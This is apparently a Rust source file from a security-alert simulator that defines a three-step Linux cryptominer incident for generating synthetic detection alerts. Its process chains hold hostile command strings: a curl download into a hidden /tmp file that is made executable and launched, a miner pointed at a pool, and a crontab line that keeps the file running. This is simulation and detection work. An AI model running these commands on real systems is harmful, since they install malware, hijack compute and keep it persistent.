//! A miner on a Linux server.

use crate::sim::population::incidents::Place;
use crate::sim::population::incidents::Step;
use crate::sim::population::template::Item;
use crate::sim::population::template::PLAIN;
use crate::sim::population::template::Process;
use crate::sim::population::template::Template;

const SSHD: Process = Process {
    file: "sshd",
    folder: "/usr/sbin",
    command: "sshd: {user} [priv]",
};
const BASH: Process = Process {
    file: "bash",
    folder: "/usr/bin",
    command: "-bash",
};

pub(super) const MINER: &[Step] = &[
    Step {
        place: Place::Linux,
        after: 0,
        template: Template {
            title: "Suspicious file dropped and launched from /tmp",
            severity: "Medium",
            category: "Execution",
            techniques: &["T1059.004", "T1222.002"],
            description: "A file was downloaded to a folder for temporary files, made executable and started.",
            chain: &[
                SSHD,
                BASH,
                Process {
                    file: "bash",
                    folder: "/usr/bin",
                    command: "bash -c 'curl -fsSL http://{ip}/x86_64 -o /tmp/.{hex} && chmod +x /tmp/.{hex} && nohup /tmp/.{hex} &'",
                },
            ],
            items: &[
                Item::File {
                    name: ".{hex}",
                    folder: "/tmp",
                    status: "Detected",
                },
                Item::Address,
            ],
            ..PLAIN
        },
    },
    Step {
        place: Place::Linux,
        after: 8,
        template: Template {
            title: "Digital currency mining related behavior detected",
            severity: "Low",
            category: "Malware",
            techniques: &["T1496"],
            threat: Some(("CoinMiner", "Trojan:Linux/CoinMiner.K!sim")),
            description: "A process talks to a mining pool and uses nearly all processors.",
            chain: &[
                SSHD,
                BASH,
                Process {
                    file: ".{hex}",
                    folder: "/tmp",
                    command: "/tmp/.{hex} --donate-level 1 -o pool.{domain}:443 --tls -k",
                },
            ],
            items: &[Item::Url("pool.{domain}")],
            ..PLAIN
        },
    },
    Step {
        place: Place::Linux,
        after: 3,
        template: Template {
            title: "Suspicious cron job",
            severity: "Medium",
            category: "Persistence",
            techniques: &["T1053.003"],
            description: "A job that starts a hidden file every minute was added for the account {user}.",
            chain: &[
                SSHD,
                BASH,
                Process {
                    file: "bash",
                    folder: "/usr/bin",
                    command: "bash -c '(crontab -l; echo \"* * * * * /tmp/.{hex} >/dev/null 2>&1\") | crontab -'",
                },
            ],
            ..PLAIN
        },
    },
];
